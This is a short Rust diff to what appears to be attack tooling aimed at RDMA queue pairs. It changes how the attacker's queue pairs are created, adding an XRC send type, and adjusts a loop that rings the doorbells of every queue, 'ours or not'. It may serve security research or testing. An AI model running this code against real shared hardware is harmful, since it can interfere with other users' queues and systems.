@@ -8,11 +8,12 @@ use std::io;
 use std::os::fd::{AsRawFd, OwnedFd};
 
 /// Queue pairs of an attacker, in pairs.
-const PAIRS: usize = 4;
+const PAIRS: [QpType; 4] = [QpType::Rc, QpType::Rc, QpType::Rc, QpType::XrcSend];
 
 fn furnished() -> io::Result<(Client, Vec<[Qp; 2]>)> {
     let mut client = Client::open()?;
-    let pairs = (0..PAIRS).map(|_| client.create_pair(QpType::Rc)).collect::<io::Result<_>>()?;
+    let pairs = PAIRS.map(|qp_type| client.create_pair(qp_type));
+    let pairs = pairs.into_iter().collect::<io::Result<_>>()?;
     Ok((client, pairs))
 }
 
@@ -73,7 +74,7 @@ fn punch_hole(file: &OwnedFd, at: usize) {
 /// Doorbells of every queue, ours or not, without pause.
 pub(crate) fn doorbells(attack: &mut Attack) -> io::Result<()> {
     let (client, pairs) = furnished()?;
-    let own = pairs[0][0].sq.record.value();
+    let own = pairs[0][0].sends.as_ref().map_or(0, |(sq, _)| sq.record.value());
     while attack.goes_on() {
         for _ in 0..1000 {
             // What a ring writes: the record, its bit, the bits above.
